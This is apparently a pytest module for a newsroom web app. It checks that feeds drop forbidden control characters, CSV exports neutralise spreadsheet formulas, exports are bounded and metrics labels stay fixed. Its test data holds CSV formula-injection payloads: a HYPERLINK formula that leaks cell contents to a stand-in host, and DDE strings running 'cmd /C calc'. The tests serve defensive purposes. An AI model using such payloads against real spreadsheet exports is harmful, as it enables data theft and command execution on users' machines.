"""Outputs safe for whoever reads them (issue 12): feeds that every XML reader parses whatever
control characters the articles hold, CSV exports a spreadsheet opens as text, a bounded
export, and metrics labels from fixed sets whatever method or path a client sends.

The articles go through the real ingest service and a real Celery worker into Elasticsearch;
the feeds are read with feedparser, the CSV with the csv module, /metrics with promtool.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import uuid
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import feedparser
import pytest
from flask.testing import FlaskClient

import web
from shared import metrics
from shared.clients import get_redis
from shared.settings import Settings
from tests.conftest import RUN_ID
from web.export import csv_lines, spreadsheet_safe
from web.feeds import atom_feed, feed_text, json_feed
from web.search import EXPORT_FIELDS

WORD = f"safety{RUN_ID}"
# Every C0 control, DEL and every C1 control.
CONTROLS = "".join(chr(code) for code in [*range(0x00, 0x20), *range(0x7F, 0xA0)])
# What XML 1.0 allows of them: tab, line feed, carriage return.
KEPT = {"\t", "\n", "\r"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_TITLES = [
    f'=HYPERLINK("http://evil.example/?leak="&A1,"Click {WORD}")',
    f"+cmd|' /C calc'!A0 {WORD}",
    f"-2+3+cmd|' /C calc'!A0 {WORD}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {WORD}",
]


def _hostile(text: str) -> str:
    """``text`` with every control character in its middle (ingest strips the ends)."""
    middle = len(text) // 2
    return text[:middle] + CONTROLS + text[middle:]


# --- pure functions ---------------------------------------------------------------------------


def test_feed_text_drops_what_xml_forbids_and_keeps_the_rest() -> None:
    every_other = "".join(chr(code) for code in range(0x20, 0x7F)) + "é€😀\u00a0\ufffd"
    text = CONTROLS + every_other + "\ud800\udfff\ufffe\uffff"
    assert feed_text(text) == "\t\n\r" + every_other


def test_a_spreadsheet_formula_never_starts_a_cell() -> None:
    for start in (*FORMULA_STARTS, "\n", "  =", " +"):
        assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    for harmless in ("Harbour", "2025-09-30", "", "a=b", "'quoted", "1-2"):
        assert spreadsheet_safe(harmless) == harmless
    row: dict[str, Any] = dict.fromkeys(EXPORT_FIELDS)
    row |= {"title": "\t=1+1", "people": ["@Ann", "Bo"], "word_count": -3, "source": "\r+x"}
    table = list(csv.reader(io.StringIO("".join(csv_lines([row])))))
    assert table[0] == list(EXPORT_FIELDS)
    cells = dict(zip(EXPORT_FIELDS, table[1], strict=True))
    assert cells["title"] == "'\t=1+1"
    assert cells["people"] == "'@Ann; Bo"
    assert cells["source"] == "'\r+x"
    assert cells["word_count"] == "-3"  # a number stays a number


# --- through the real pipeline ------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_ids(
    worker: Any, ingest_app: Any, wait_indexed_module: Callable[[list[str]], None]
) -> list[str]:
    articles: list[dict[str, Any]] = [
        {
            "title": title,
            "body": f"The harbour board met on Tuesday ({WORD} {n}) and approved the quay, "
            "the chair said after the vote.",
            "source": "@Harbour Wire" if n == 0 else "Harbour Wire",
            "published_at": f"2025-03-0{n + 1}",
        }
        for n, title in enumerate(FORMULA_TITLES)
    ]
    articles.append(
        {
            "title": _hostile(f"Storm closes the quay {WORD}"),
            "body": _hostile(
                f"The storm closed the quay on Monday ({WORD}), the harbour master said, "
                "and ferries stayed in port."
            ),
            "source": _hostile("Coast Courier"),
            "authors": [_hostile("Ann Berg"), _hostile("Bo Lund")],
            "published_at": "2025-03-09",
        }
    )
    response = ingest_app.test_client().post("/articles", json=articles)
    assert response.status_code == 202, response.get_json()
    ids = [item["id"] for item in response.get_json()["articles"]]
    assert len(ids) == len(articles)
    wait_indexed_module(ids)
    return ids


def _forbidden(text: str) -> str:
    """``text`` with every character XML forbids (and the C1 controls) in its middle."""
    middle = len(text) // 2
    bad = "".join(char for char in CONTROLS if char not in KEPT) + "\ud800\ufffe\uffff"
    return text[:middle] + bad + text[middle:]


def _as_xml_reads(text: str) -> str:
    """``_hostile(text)`` as an XML reader gets it: tab and line feeds kept, CR read as LF."""
    return (
        _hostile(text)
        .replace("\r", "\n")
        .translate({ord(char): None for char in CONTROLS if char not in KEPT})
    )


def _no_forbidden(text: str) -> bool:
    return not any(char in text for char in CONTROLS if char not in KEPT)


@pytest.mark.stack
def test_feeds_of_articles_holding_every_control_character_parse(
    hostile_ids: list[str], web_client: FlaskClient
) -> None:
    # The query itself carries a bell: it becomes the feed's title.
    atom = web_client.get("/feed.atom", query_string={"q": f"{WORD} quay\x07"})
    assert atom.status_code == 200
    parsed = feedparser.parse(atom.data)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.feed.title == f"Newsroom: {WORD} quay"
    entries = {entry.title: entry for entry in parsed.entries}
    assert len(entries) == len(hostile_ids)  # every article listed, none lost to a bad byte
    # The text kept, the forbidden characters gone (XML reads a CR as a line feed).
    storm = entries[_as_xml_reads(f"Storm closes the quay {WORD}")]
    assert [author["name"] for author in storm.authors] == [
        _as_xml_reads("Ann Berg"),
        _as_xml_reads("Bo Lund"),
    ]
    assert f"The storm closed the quay on Monday ({WORD})" in storm.summary
    assert _no_forbidden(atom.data.decode("utf-8"))
    for title in FORMULA_TITLES:
        assert title in entries  # feeds are not spreadsheets: titles stay as written

    as_json = web_client.get("/feed.json", query_string={"q": f"{WORD} quay\x07"})
    assert as_json.status_code == 200
    feed = json.loads(as_json.data)
    assert feed["title"] == f"Newsroom: {WORD} quay"
    items = {item["title"]: item for item in feed["items"]}
    storm_item = items[feed_text(_hostile(f"Storm closes the quay {WORD}"))]
    assert [a["name"] for a in storm_item["authors"]] == [
        feed_text(_hostile("Ann Berg")),
        feed_text(_hostile("Bo Lund")),
    ]
    assert _no_forbidden(json.dumps(feed, ensure_ascii=False))


def test_the_feed_writers_clean_every_field_they_write() -> None:
    hit = {
        "id": "a" * 32,
        "title": _forbidden("Title"),
        "url": _forbidden("https://example.org/a"),
        "source": _forbidden("Source"),
        "authors": [],
        "published_at": "2025-03-09",
        "language": "en",
        "snippet": "Snippet &amp; " + _forbidden("more"),
    }
    body = atom_feed(_forbidden("Feed"), "https://x/feed", "https://x/", [hit], lambda i: f"/a/{i}")
    parsed = feedparser.parse(body)
    assert not parsed.bozo, parsed.get("bozo_exception")
    entry = parsed.entries[0]
    assert (entry.title, entry.summary, entry.author) == ("Title", "Snippet & more", "Source")
    assert parsed.feed.title == "Feed"
    assert any(link.href == "https://example.org/a" for link in entry.links)
    feed = json_feed(_forbidden("Feed"), "https://x/f", "https://x/", [hit], lambda i: f"/a/{i}")
    assert feed["items"][0]["title"] == "Title"
    assert feed["items"][0]["external_url"] == "https://example.org/a"


@pytest.mark.stack
def test_a_csv_export_opens_as_text_in_a_spreadsheet(
    hostile_ids: list[str], web_client: FlaskClient
) -> None:
    response = web_client.get("/api/export", query_string={"q": WORD, "format": "csv"})
    assert response.status_code == 200
    assert response.headers["X-Export-Rows"] == str(len(hostile_ids))
    table = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(table) == len(hostile_ids)
    titles = {row["title"] for row in table}
    for title in FORMULA_TITLES:
        assert "'" + title in titles  # neutralised, and nothing else changed
    assert {row["source"] for row in table} >= {"'@Harbour Wire", "Harbour Wire"}
    for row in table:
        for name, cell in row.items():
            # A spreadsheet runs a cell as a formula when it starts with one of these.
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (name, cell)
    # NDJSON is for programs: the values as they are.
    ndjson = web_client.get("/api/export", query_string={"q": WORD, "format": "ndjson"})
    # One record a line, for any line reader (str.splitlines also breaks at NEL, U+2028 ...).
    lines = ndjson.get_data(as_text=True).splitlines()
    assert len(lines) == len(hostile_ids)
    records = [json.loads(line) for line in lines]
    assert set(FORMULA_TITLES) <= {record["title"] for record in records}
    assert _hostile(f"Storm closes the quay {WORD}") in {record["title"] for record in records}


_SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _open_in_libreoffice(
    csv_files: list[Path], workdir: Path
) -> dict[str, list[dict[str, tuple[str, Any]]]]:
    """Each CSV file as LibreOffice Calc imports it (converted to .xlsx by soffice): its rows,
    each {column letter: cell}, a cell being ("formula", text), ("text", value) or ("number",
    value)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (Debian's libreoffice-calc-nogui) is not installed")
    subprocess.run(
        [soffice, "--headless", "--convert-to", "xlsx", "--outdir", str(workdir),
         *map(str, csv_files)],
        check=True, capture_output=True, timeout=180,
        env=os.environ | {"HOME": str(workdir)},  # its profile, away from the real home
    )  # fmt: skip
    sheets = {}
    for path in csv_files:
        with zipfile.ZipFile(path.with_suffix(".xlsx")) as book:
            strings = [
                "".join(t.text or "" for t in item.iter(f"{_SHEET}t"))
                for item in ET.fromstring(book.read("xl/sharedStrings.xml"))
            ]
            sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
        rows = []
        for row in sheet.iter(f"{_SHEET}row"):
            cells: dict[str, tuple[str, Any]] = {}
            for cell in row.iter(f"{_SHEET}c"):
                column = "".join(char for char in cell.get("r", "") if char.isalpha())
                formula, value = cell.find(f"{_SHEET}f"), cell.find(f"{_SHEET}v")
                if formula is not None:
                    cells[column] = ("formula", formula.text)
                elif cell.get("t") == "s" and value is not None:
                    cells[column] = ("text", strings[int(value.text or 0)])
                else:
                    cells[column] = ("number", value.text if value is not None else None)
            rows.append(cells)
        sheets[path.name] = rows
    return sheets


@pytest.mark.stack
def test_libreoffice_opens_the_csv_export_as_text(
    hostile_ids: list[str], web_client: FlaskClient, tmp_path: Path
) -> None:
    exported = web_client.get("/api/export", query_string={"q": WORD, "format": "csv"})
    safe = tmp_path / "export.csv"
    safe.write_bytes(exported.data)
    # The same titles written without the remedy: the reader does run them (the check bites).
    raw = tmp_path / "raw.csv"
    with raw.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["title"], *[[title] for title in FORMULA_TITLES]])
    sheets = _open_in_libreoffice([safe, raw], tmp_path)
    assert any(kind == "formula" for row in sheets["raw.csv"] for kind, _ in row.values())
    rows = sheets["export.csv"]
    assert len(rows) == 1 + len(hostile_ids)
    assert not [cell for row in rows for cell in row.values() if cell[0] == "formula"]
    title = "ABCDEFGHIJKLM"[list(EXPORT_FIELDS).index("title")]
    assert rows[0][title] == ("text", "title")
    titles = {row[title] for row in rows[1:]}
    for formula in FORMULA_TITLES:
        assert ("text", "'" + formula) in titles  # shown as written, the quote before it


@pytest.mark.stack
def test_an_export_is_bounded(hostile_ids: list[str], settings: Settings) -> None:
    small = settings.model_copy(update={"export_max_rows": 3})
    client = web.create_app({"TESTING": True, "NEWSROOM_SETTINGS": small}).test_client()
    refused = client.get("/api/export", query_string={"q": WORD, "format": "csv"})
    assert refused.status_code == 400
    problem = refused.get_json()
    assert problem["title"] == "Export too large"
    assert problem["parameter"] == "limit"
    assert problem["detail"].startswith("more than 3 articles match")
    assert "limit=3" in problem["detail"]

    first = client.get("/api/export", query_string={"q": WORD, "format": "ndjson", "limit": 3})
    assert first.status_code == 200
    assert (first.headers["X-Export-Rows"], first.headers["X-Export-Max-Rows"]) == ("3", "3")
    assert len(first.get_data(as_text=True).splitlines()) == 3
    two = client.get(
        "/api/export", query_string={"q": WORD, "format": "csv", "limit": 2, "sort": "oldest"}
    )
    rows = list(csv.DictReader(io.StringIO(two.get_data(as_text=True))))
    assert [row["published_at"][:10] for row in rows] == ["2025-03-01", "2025-03-02"]
    assert client.get("/api/export", query_string={"q": WORD, "limit": 4}).status_code == 400
    # The page offers the bounded export when a search matches more than that.
    page = client.get("/", query_string={"q": WORD, "mode": "keyword"}).get_data(as_text=True)
    assert "Export the first 3" in page
    assert "limit=3" in page


# --- metrics labels --------------------------------------------------------------------------


def _label_values(settings: Settings) -> dict[str, set[str]]:
    """Every value each label has in the Redis metrics of this run's prefix."""
    client = get_redis(settings)
    values: dict[str, set[str]] = {}
    for key in (metrics.counters_key(settings.index_prefix),
                metrics.histograms_key(settings.index_prefix)):  # fmt: skip
        for field in client.hkeys(key):
            for name, value in json.loads(field)[1]:
                values.setdefault(name, set()).add(value)
    return values


@pytest.mark.stack
def test_no_request_makes_a_new_metrics_label(
    ingest_client: FlaskClient, web_client: FlaskClient, settings: Settings
) -> None:
    marker = uuid.uuid4().hex
    for client in (ingest_client, web_client):
        client.get("/metrics")  # this process's earlier requests written
    before = _label_values(settings)
    counted = ("newsroom_http_requests_total", "unmatched", "other")

    def others(client: FlaskClient) -> float:
        text = client.get("/metrics").get_data(as_text=True)
        return sum(
            float(line.rsplit(" ", 1)[1])
            for line in text.splitlines()
            if line.startswith(counted[0])
            and f'endpoint="{counted[1]}"' in line
            and f'method="{counted[2]}"' in line
        )

    seen = others(web_client)
    for client in (ingest_client, web_client):
        for n in range(5):
            assert client.open(f"/{marker}/{n}?x={marker}", method="FOOBAR").status_code in (
                404,
                405,
            )
            client.open(f"/{marker}-{n}", method=f"M{marker[:8]}{n}")
            client.get(f"/{marker}/{n}")
        assert client.open("/metrics", method="BREW").status_code == 405  # a real route
    after = _label_values(settings)
    everything = json.dumps(sorted((k, sorted(v)) for k, v in after.items()))
    for sent in (marker, marker[:8], "FOOBAR", "BREW"):
        assert sent not in everything
    assert after["method"] <= {*metrics.HTTP_METHODS, "other"}
    assert all(status.isdigit() or status == "other" for status in after["status"])
    assert after["endpoint"] - before.get("endpoint", set()) <= {"unmatched", "metrics"}
    # The requests were counted all the same, under "other".
    assert others(web_client) - seen >= 2 * 10

    body = web_client.get("/metrics").data
    promtool = shutil.which("promtool")
    if promtool is None:
        pytest.skip("promtool (Debian's prometheus package) is not installed")
    checked = subprocess.run(
        [promtool, "check", "metrics"], input=body, capture_output=True, timeout=60
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr
